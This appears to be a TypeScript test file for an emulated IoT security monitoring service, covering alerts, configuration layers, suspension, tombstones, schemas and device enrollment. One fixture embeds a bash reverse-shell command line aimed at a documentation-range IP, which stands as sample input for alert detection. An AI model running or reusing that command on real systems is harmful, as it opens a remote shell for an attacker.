import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import type { AlertView } from '../src/finding.ts'
import type { LayerView } from '../src/layer-view.ts'
import type { Page } from '../src/pages.ts'
import type { ConfigurationView } from '../src/security-view.ts'
import { runProgram, startProgram, type TestServer } from './program.ts'

/** How long the pipeline may take from PUBACK to what the API shows. */
const PIPELINE_DEADLINE_MS = 20_000

interface Event {
  readonly name: string
  readonly details: { readonly ProcessId: number }
}

interface Security {
  readonly state: string
  readonly outcome?: string
  readonly suspension: { readonly reason: string }
  readonly configuration: {
    readonly desired: { readonly [name: string]: unknown }
    readonly effective: { readonly [name: string]: { readonly value: unknown } }
  }
}

interface Rejection {
  readonly reason: string
  readonly excerpt: string
}

let server: TestServer
before(async () => {
  server = await startProgram()
  await server.json('device', 'create', 'pump-1')
})
after(() => server[Symbol.asyncDispose]())

/** Asks again until the list has an item, and returns its first. */
async function waitForItem<T>(...words: readonly string[]): Promise<T> {
  const deadlineMs = Date.now() + PIPELINE_DEADLINE_MS
  for (;;) {
    const { items } = await server.json<Page<T>>(...words)
    const [item] = items
    if (item !== undefined) return item
    assert.ok(Date.now() < deadlineMs, `nothing came: ${words.join(' ')}`)
  }
}

/** A message of the C agent, with one process that opens a reverse shell. */
function securityMessage(): string {
  const now = new Date().toISOString()
  return JSON.stringify({
    AgentVersion: '0.0.6',
    AgentId: 'e00dc5f5-feac-4c3e-87e2-93c16f010c00',
    MessageSchemaVersion: '1.0',
    Events: [
      {
        EventType: 'Security',
        Category: 'Triggered',
        Name: 'ProcessCreate',
        IsEmpty: false,
        PayloadSchemaVersion: '1.0',
        Id: '37c5cd45-4e22-4ae0-bd8d-6b0ad2ee5b4b',
        TimestampLocal: now,
        TimestampUTC: now,
        Payload: [
          {
            Executable: '/bin/bash',
            ProcessId: 4242,
            ParentProcessId: 1,
            UserId: '0',
            CommandLine: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
          },
        ],
      },
    ],
  })
}

test('send --security: the message becomes events of the device', async () => {
  const file = ['--security', '--file', '-']
  const sent = await server.run(['send', 'pump-1', ...file, '--json'], securityMessage())
  assert.equal(sent.code, 0, sent.stderr)
  const { moduleId, bytes, messageId } = JSON.parse(sent.stdout)
  assert.equal(moduleId, 'azureiotsecurity')
  assert.equal(bytes, Buffer.byteLength(securityMessage()))
  assert.match(messageId, /^[0-9a-f-]{36}$/)

  const event = await waitForItem<Event>('security', 'events', '--device', 'pump-1')
  assert.equal(event.name, 'ProcessCreate')
  assert.equal(event.details.ProcessId, 4242)
  const people = await server.run(['security', 'events'])
  assert.match(people.stdout, /^TIME +DEVICE +EVENT/)
})

test('alerts: are listed, shown, updated', async () => {
  const alert = await waitForItem<AlertView>('security', 'alerts', '--device', 'pump-1')
  const shown = await server.run(['security', 'alerts', 'show', alert.id])
  assert.ok(shown.stdout.includes(alert.displayName))
  const change = ['--status', 'InProgress', '--assignee', 'night shift', '--note', 'on it']
  const updated = await server.json<AlertView>('security', 'alerts', 'update', alert.id, ...change)
  assert.equal(updated.status, 'InProgress')
  assert.equal(updated.assignee, 'night shift')
  const { items } = await server.json<Page<AlertView>>(
    'security',
    'alerts',
    '--status',
    'InProgress',
  )
  assert.equal(items[0]?.id, alert.id)
  const nobody = await server.run(['security', 'alerts', 'show', 'no-such-alert'])
  assert.equal(nobody.code, 1)
  assert.match(nobody.stderr, /There is no alert no-such-alert\. \(GenericNotFound\)/)
})

test('rejected: what is no security message is listed with its reason', async () => {
  const sent = await server.run(['send', 'pump-1', '--security', '--data', 'not JSON'])
  assert.equal(sent.code, 0, sent.stderr)
  const rejection = await waitForItem<Rejection>('security', 'rejected', '--device', 'pump-1')
  assert.equal(rejection.excerpt, 'not JSON')
  assert.ok(rejection.reason.length > 0)
})

test('config: set changes the desired value, and null takes it back', async () => {
  const name = ['security', 'config', 'set', 'pump-1']
  const changed = await server.json<ConfigurationView>(...name, 'snapshotFrequency=PT1H')
  assert.equal(changed.effective.snapshotFrequency?.value, 'PT1H')
  const shown = await server.run(['security', 'config', 'show', 'pump-1'])
  assert.match(shown.stdout, /^snapshotFrequency +PT1H +device/m)
  const refused = await server.run([...name, 'snapshotFrequency=often'])
  assert.equal(refused.code, 1)
  assert.match(refused.stderr, /snapshotFrequency/)
  const back = await server.json<ConfigurationView>(...name, 'snapshotFrequency=')
  assert.notEqual(back.effective.snapshotFrequency?.value, 'PT1H')
})

test('config: what the hub and groups say is seen in show, and who changed it in history', async () => {
  const hub = ['security', 'config', 'hub']
  const changed = await server.json<LayerView>(...hub, 'set', 'lowPriorityMessageFrequency=PT4H')
  assert.deepEqual(changed.settings.legacy, { lowPriorityMessageFrequency: 'PT4H' })
  const shown = await server.run([...hub, 'show'])
  assert.match(shown.stdout, /^lowPriorityMessageFrequency +PT4H +legacy$/m)
  const device = await server.run(['security', 'config', 'show', 'pump-1'])
  assert.match(device.stdout, /^lowPriorityMessageFrequency +PT4H +hub/m)
  const group = ['security', 'config', 'group']
  assert.equal((await server.run([...group, 'list'])).stderr, 'No group has settings.\n')
  await server.json(...group, 'set', 'Outside', 'Process_Mode=3')
  assert.match((await server.run([...group, 'list'])).stdout, /^outside +1 /m)
  assert.match(
    (await server.run([...group, 'show', 'outside'])).stdout,
    /^Process_Mode +3 +micro$/m,
  )
  const history = await server.run(['security', 'config', 'history', '--layer', 'hub'])
  assert.match(history.stdout, /hub +hub +iothubowner +lowPriorityMessageFrequency: – → PT4H/)
  const refused = await server.run([...group, 'set', 'outside', 'Process_Mode=9'])
  assert.match(refused.stderr, /Process_Mode: it is not between 1 and 3/)
  await server.json(...hub, 'set', 'lowPriorityMessageFrequency=')
  await server.json(...group, 'set', 'outside', 'Process_Mode=')
})

test('status, show, recommendations: answer with and without --json', async () => {
  assert.equal(typeof (await server.json('security', 'status')).devicesWithOpenAlerts, 'number')
  assert.equal((await server.json('security', 'show', 'pump-1')).deviceId, 'pump-1')
  assert.ok(Array.isArray((await server.json('security', 'recommendations')).items))
  const status = await server.run(['security', 'status'])
  assert.match(status.stdout, /^Open alerts +\d/m)
  const shown = await server.run(['security', 'show', 'pump-1'])
  assert.match(shown.stdout, /^Device +pump-1$/m)
  assert.match(shown.stdout, /^azureiotsecurity +legacy/m)
})

test('send: telemetry of a device and of a module, and a refusal of a disabled device', async () => {
  const property = ['--property', 'colour=red', '--content-type', 'application/json']
  const device = await server.run(['send', 'pump-1', '--data', '{"t":21}', ...property])
  assert.deepEqual([device.code, device.stdout], [0, 'Sent 8 bytes as pump-1.\n'])
  await server.json('device', 'create', 'pump-2', '--disabled')
  const refused = await server.run(['send', 'pump-2', '--data', 'x'])
  assert.equal(refused.code, 1)
  assert.match(refused.stderr, /^The server refuses this identity/)
  const missing = await server.run(['send', 'pump-1', '--file', '/nonexistent/body'])
  assert.equal(missing.code, 1)
  assert.match(missing.stderr, /\/nonexistent\/body cannot be read/)
})

test('modules: suspend, resume and retire are seen in show, modules and status', async () => {
  await server.json('device', 'create', 'pump-9')
  const suspend = ['security', 'suspend', 'pump-9', '--for', '2h', '--reason', 'pump is changed']
  const suspended = await server.json<Security>(...suspend)
  assert.equal(suspended.state, 'suspended')
  assert.equal(suspended.suspension.reason, 'pump is changed')
  assert.equal(suspended.configuration.desired.eventPriorityLogin, 'Off')
  const shown = await server.run(['security', 'show', 'pump-9'])
  assert.match(shown.stdout, /^Suspended +until .*, by iothubowner, pump is changed$/m)
  const list = ['security', 'modules', '--state', 'suspended']
  const { items } = await server.json<Page<{ deviceId: string }>>(...list)
  assert.deepEqual(
    items.map(({ deviceId }) => deviceId),
    ['pump-9'],
  )
  const resumed = await server.json<Security>('security', 'resume', 'pump-9')
  assert.equal(resumed.configuration.desired.eventPriorityLogin, 'High')
  await server.json('security', 'retire', 'pump-9', '--reason', 'scrapped')
  const status = await server.run(['security', 'status'])
  assert.match(status.stdout, /^retired +1$/m)
  const set = ['security', 'config', 'set', 'pump-9', 'snapshotFrequency=PT1H']
  const refused = await server.run(set)
  assert.match(refused.stderr, /is retired.*\(GenericConflict\)/)
  const wrong = await server.run(['security', 'suspend', 'pump-1', '--for', 'a while'])
  assert.match(wrong.stderr, /duration must be an ISO 8601 duration/)
})

test('tombstones: a deleted device leaves its configuration, until it is restored or forgotten', async () => {
  await server.json('device', 'create', 'pump-8')
  await server.json('security', 'config', 'set', 'pump-8', 'snapshotFrequency=PT2H')
  await server.json('security', 'retire', 'pump-8')
  await server.json('security', 'resume', 'pump-8')
  await server.json('device', 'delete', 'pump-8')
  const kept = await waitForItem<{ deviceId: string; cause: string }>('security', 'tombstones')
  assert.deepEqual([kept.deviceId, kept.cause], ['pump-8', 'device'])
  await server.json('device', 'create', 'pump-8')
  const fresh = await server.json<Security>('security', 'show', 'pump-8')
  assert.equal(fresh.configuration.effective.snapshotFrequency?.value, 'PT13H')
  const restore = ['security', 'module', 'create', 'pump-8', '--restore']
  const again = await server.json<Security>(...restore)
  assert.equal(again.outcome, 'restored')
  assert.equal(again.configuration.effective.snapshotFrequency?.value, 'PT2H')
  const missing = await server.run(['security', 'tombstones', 'forget', 'pump-8'])
  assert.match(missing.stderr, /Nothing is kept/)
})

test('security schema and send: a custom event is learned, sent, judged and shown', async () => {
  const schema = { type: 'object', properties: { door: { type: 'integer' } }, required: ['door'] }
  const name = 'acme.DoorOpened'
  await server.json('security', 'schema', 'set', name, '--schema', JSON.stringify(schema))
  const { items } = await server.json<{ items: { name: string }[] }>('security', 'schema', 'list')
  assert.deepEqual(
    items.map((one) => one.name),
    [name],
  )
  await server.json('device', 'create', 'door-1')
  const send = (data: string) =>
    server.json<{ eventId: string }>('security', 'send', 'door-1', '--name', name, '--data', data)
  await send('{"door":3}')
  const event = await waitForItem<{ details: object }>('security', 'events', '--device', 'door-1')
  assert.deepEqual(event.details, { door: 3 })
  await send('[{"door":"x"}]')
  const rejected = await waitForItem<Rejection>('security', 'rejected', '--device', 'door-1')
  assert.match(rejected.reason, /Payload\[0\]\.door: expected an integer, got "x"/)
  const intake = await server.json<{ events: number }>('security', 'ingestion', 'door-1')
  assert.equal(intake.events, 1)
  await server.json('security', 'schema', 'delete', name)
  const after = await server.json<{ items: object[] }>('security', 'schema', 'list')
  assert.deepEqual(after.items, [])
})

test('security enroll-token and enroll: a token from here, the connection string on the device', async () => {
  await server.json('device', 'create', 'enrol-1')
  const { token } = await server.json<{ token: string }>(
    ...['security', 'enroll-token', 'create', 'enrol-1', '--valid-for', '5'],
  )
  const { hostName, httpsPort, caFile } = server.ready
  const output = join(server.dataDir, 'connection_string.txt')
  const words = ['security', 'enroll', '--url', `https://${hostName}:${httpsPort}`]
  const files = ['--ca', caFile, '--output', output]
  const enroll = () => runProgram([...words, ...files], { stdin: `${token}\n` })
  const { code, stderr } = await enroll()
  assert.equal(code, 0, stderr)
  const text = readFileSync(output, 'utf8')
  assert.match(text, /^HostName=localhost;DeviceId=enrol-1;ModuleId=azureiotsecurity;Sha/)
  const again = await enroll()
  assert.equal(again.code, 1, 'it works once')
  assert.equal(readFileSync(output, 'utf8'), text)
  const listed = await server.json<Page<{ status: string }>>(
    ...['security', 'enroll-token', 'list', 'enrol-1'],
  )
  assert.deepEqual(
    listed.items.map(({ status }) => status),
    ['used'],
  )
})
